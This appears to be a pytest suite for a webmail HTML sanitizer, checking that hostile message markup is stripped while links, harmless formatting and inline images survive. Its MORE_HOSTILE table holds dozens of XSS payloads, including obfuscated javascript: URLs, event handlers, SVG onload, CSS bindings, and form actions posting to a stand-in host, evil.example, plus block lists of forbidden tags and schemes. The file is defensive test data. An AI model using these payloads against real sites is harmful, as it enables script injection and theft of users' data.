"""The HTML of a message as the sandboxed frame gets it: nothing that runs, loads or covers."""

import re

import pytest

from devtools.seed import PIXEL_PNG
from tests.browser.hostile import HOSTILE_HTML
from webmail import sanitize

EVIL = "https://evil.example"

# More ways in, beyond the browser test's list: case, entities, whitespace and nesting tricks.
MORE_HOSTILE = {
    "upper-case script": "<SCRIPT>alert(1)</SCRIPT><p>x</p>",
    "split script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script in comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "entity javascript": "<a href='&#106;avascript:alert(1)'>e</a>",
    "tab javascript": "<a href='jav&#x09;ascript:alert(1)'>t</a>",
    "spaced javascript": "<a href='  javascript:alert(1)'>s</a>",
    "null javascript": "<a href='java\0script:alert(1)'>n</a>",
    "upper-case javascript": "<a href='JAVASCRIPT:alert(1)'>u</a>",
    "img javascript": "<img src='javascript:alert(1)'>",
    "cid with handler": "<img src='cid:logo@x' onerror='alert(1)' onload=alert(2)>",
    "upper-case handler": "<p ONMOUSEOVER=alert(1)>hover</p>",
    "autofocus handler": "<input autofocus onfocus=alert(1)>",
    "button formaction": f"<button formaction='{EVIL}/steal'>go</button>",
    "form in table": f"<table><form action='{EVIL}'><tr><td><input name=p></td></tr></form>",
    "meta charset": "<meta charset='utf-7'><p>+ADw-script+AD4-</p>",
    "base in body": f"<p>x</p><base href='{EVIL}/'>",
    "absolute position": "<div style='position:absolute;top:0'>cover</div>",
    "sticky position": "<div style='position: sticky'>s</div>",
    "entity in style": "<p style='pos&#105;tion:fixed'>e</p>",
    "background-image": f"<p style='background-image:url({EVIL}/i.png)'>b</p>",
    "list-style-image": f"<ul style='list-style-image:url({EVIL}/l.png)'><li>l</li></ul>",
    "behaviour": f"<p style='behavior:url({EVIL}/x.htc)'>b</p>",
    "moz binding": f"<p style='-moz-binding:url({EVIL}/x.xml#x)'>m</p>",
    "escaped url": f"<p style='background:u\\72l({EVIL}/e.png)'>e</p>",
    "font-face": f"<style>@font-face{{src:url({EVIL}/f.woff)}}</style><p>f</p>",
    "svg use": f"<svg><use href='{EVIL}/s.svg#x'/></svg>",
    "svg animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></animate></svg>",
    "svg set href": "<svg><a><set attributeName=href to='javascript:alert(1)'/><text>x</text></a>",
    "data image svg": "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "frameset": "<frameset><frame src='javascript:alert(1)'></frameset>",
    "template": "<template><script>alert(1)</script></template>",
    "xml namespace": "<html xmlns:x='http://www.w3.org/1999/xhtml'><x:script>alert(1)</x:script>",
    "embed": f"<embed src='{EVIL}/e.swf' type='application/x-shockwave-flash'>",
    "applet": f"<applet code='X' codebase='{EVIL}/'></applet>",
    "link import": f"<link rel=import href='{EVIL}/i.html'>",
    "noembed": "<noembed><img src=x onerror=alert(1)></noembed>",
    "textarea breakout": "<textarea></textarea><script>alert(1)</script></textarea>",
    "title breakout": "<title></title><script>alert(1)</script>",
}
HOSTILE = {**HOSTILE_HTML, **MORE_HOSTILE}


def clean(html: str, **options) -> str:
    options = {"inline_images": {}, "allow_remote": False, "inline_budget": 100_000, **options}
    return sanitize.clean_html(html, **options)


def tags(html: str) -> list[str]:
    """The opening tags of `html`, where attributes live (text between tags is escaped)."""
    return re.findall(r"<[^>]*>", html)


@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE.keys())
def test_it_leaves_nothing_that_runs_loads_or_covers(html):
    cleaned = clean(html).lower()
    markup = " ".join(tags(cleaned))
    loading = " ".join(tag for tag in tags(cleaned) if not tag.startswith("<a "))

    for forbidden in ("<script", "<form", "<meta", "<base", "<iframe", "<object", "<embed",
                      "<link", "<style", "<svg", "<math", "<input", "<button"):  # fmt: skip
        assert forbidden not in cleaned
    for forbidden in ("javascript:", "vbscript:", "data:", "url(", "position", "expression(",
                      "behavior", "binding", "@import"):  # fmt: skip
        assert forbidden not in markup
    assert "evil.example" not in loading  # a link may lead there (in a new tab); nothing loads it
    assert not re.search(r"\son[a-z]+\s*=", markup)


@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE.keys())
def test_allowing_remote_images_lets_through_only_images(html):
    markup = " ".join(tags(clean(html, allow_remote=True).lower()))

    assert "<script" not in markup and "javascript:" not in markup and "position" not in markup
    assert not re.search(r"\son[a-z]+\s*=", markup)
    for url in re.findall(r"""(?:src|href|background|poster|srcset)=["']?([^"' >]+)""", markup):
        assert url.startswith(("http", "mailto:")), url  # no javascript:, data: or relative
    for match in re.finditer(r"<(\w+)[^>]*evil\.example", markup):
        # A remote image after the user asked for images; links to evil.example open in a
        # new tab, never here (they are plain <a> with target=_blank).
        assert match.group(1) in ("img", "a"), match.group(0)


def test_links_open_in_a_new_tab_without_a_referrer():
    cleaned = clean("<a href='https://example.org/' target='_top'>site</a>")
    assert 'href="https://example.org/"' in cleaned
    assert 'target="_blank"' in cleaned and "_top" not in cleaned
    assert 'rel="noopener noreferrer"' in cleaned


def test_harmless_formatting_is_kept():
    cleaned = clean(
        '<table cellpadding="4"><tr><td style="color: red; font-weight: bold">Total</td>'
        '<td align="right"><font color="#333">£ 1,200</font></td></tr></table>'
    )
    assert '<td style="color:red;font-weight:bold">Total</td>' in cleaned
    assert '<font color="#333">£ 1,200</font>' in cleaned
    assert 'cellpadding="4"' in cleaned


def test_inline_images_become_data_urls_within_the_budget():
    image = "data:image/png;base64," + "A" * 1000
    html = '<img src="cid:logo@x"><img src="CID:%3Clogo@x%3E"><img src="cid:missing@x">'

    cleaned = clean(html, inline_images={"logo@x": image}, inline_budget=1500)

    assert cleaned.count(image) == 1  # the second copy would pass the budget
    assert "cid:" not in cleaned.lower()


def test_cid_references_survive_letters_that_grow_when_lower_cased():
    """The letter İ lower-cases to two characters; references must still be read exactly."""
    html = "İstanbul " * 40 + '<img src="cid:logo@example"><p style="background:url(CID:bg@x)">'

    assert sanitize.cid_references(html) == {"logo@example", "bg@x"}


def get(client, uid, suffix="", **params):
    return client.get(f"/webmail/message/{uid}/{suffix}", {"folder": "INBOX", **params})


def test_inline_images_show_in_mail_written_in_turkish(user_client, automatic_user, mailbox):
    html = "<p>" + "İyi günler, İstanbul ofisimizden. " * 20 + '</p><img src="cid:logo@x" alt=logo>'
    mailbox.receive("Turkish newsletter", html=html, inline_images={"logo@x": PIXEL_PNG})

    body = get(user_client, 61, "body/").content.decode()

    assert re.search(r'<img src="data:image/png;base64,iVBORw0KGgo[^"]*" alt="logo">', body)


def test_html_bodies_are_cut_at_the_html_limit(user_client, automatic_user, mailbox, settings):
    settings.WEBMAIL_HTML_LIMIT = 20_000
    html = "<p>start of the letter</p>" + "<p>filler paragraph</p>" * 3_000 + "<p>THE END</p>"
    mailbox.receive("Long HTML", html=html)

    response = get(user_client, 61, "body/")
    body = response.content.decode()

    assert response.status_code == 200
    assert "start of the letter" in body
    assert "THE END" not in body
    assert body.count("filler paragraph") < 20_000 / len("<p>filler paragraph</p>") + 1
    assert "only its beginning is shown" in body
